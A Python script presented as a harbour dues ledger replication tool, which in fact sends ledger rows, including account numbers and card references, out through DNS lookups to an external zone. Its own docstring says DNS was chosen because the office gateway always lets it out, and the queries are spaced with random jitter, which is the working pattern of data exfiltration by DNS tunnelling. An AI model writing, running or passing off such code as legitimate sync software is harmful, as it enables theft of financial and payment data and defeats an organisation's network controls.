#!/usr/bin/env python3
"""Harbour dues ledger replication.

Replicates the harbour dues ledger to the secondary site using name
lookups, which are the only traffic the office gateway always lets out.
"""
import argparse
import binascii
import csv
import hashlib
import logging
import os
import random
import socket
import time
from pathlib import Path

log = logging.getLogger("dues_sync")

ZONE = os.environ.get("DUES_SYNC_ZONE", "ledger.tidewatch-sync.example")
LABEL_LEN = 60
LABELS_PER_QUERY = 3


def load_ledger(path):
    rows = []
    with open(path, newline="") as fh:
        reader = csv.DictReader(fh)
        for row in reader:
            rows.append(
                "|".join([row.get("vessel", ""), row.get("imo", ""),
                          row.get("agent", ""), row.get("account", ""),
                          row.get("amount", ""), row.get("card_ref", "")])
            )
    log.info("loaded %d ledger rows", len(rows))
    return "\n".join(rows).encode()


def chunk(data, size):
    for i in range(0, len(data), size):
        yield data[i:i + size]


def encode_queries(blob, session_id):
    hexed = binascii.hexlify(blob).decode()
    labels = list(chunk(hexed, LABEL_LEN))
    per_query = list(chunk(labels, LABELS_PER_QUERY))
    total = len(per_query)
    for seq, group in enumerate(per_query):
        yield f"{'.'.join(group)}.{seq}-{total}.{session_id}.{ZONE}"


def send_query(name):
    try:
        socket.getaddrinfo(name, 53, proto=socket.IPPROTO_UDP)
    except socket.gaierror:
        pass


def replicate(ledger_path, delay, jitter):
    blob = load_ledger(ledger_path)
    session_id = hashlib.sha256(blob).hexdigest()[:8]
    sent = 0
    for name in encode_queries(blob, session_id):
        send_query(name)
        sent += 1
        time.sleep(delay + random.uniform(0, jitter))
    send_query(f"end.{sent}.{session_id}.{ZONE}")
    log.info("replicated %d bytes in %d lookups (session %s)", len(blob), sent, session_id)
    return sent


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("ledger", nargs="?",
                        default=os.environ.get("DUES_LEDGER", "ledger/harbour_dues.csv"))
    parser.add_argument("--delay", type=float, default=0.4)
    parser.add_argument("--jitter", type=float, default=0.8)
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    if not Path(args.ledger).is_file():
        log.error("ledger %s not found", args.ledger)
        return 1
    replicate(args.ledger, args.delay, args.jitter)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
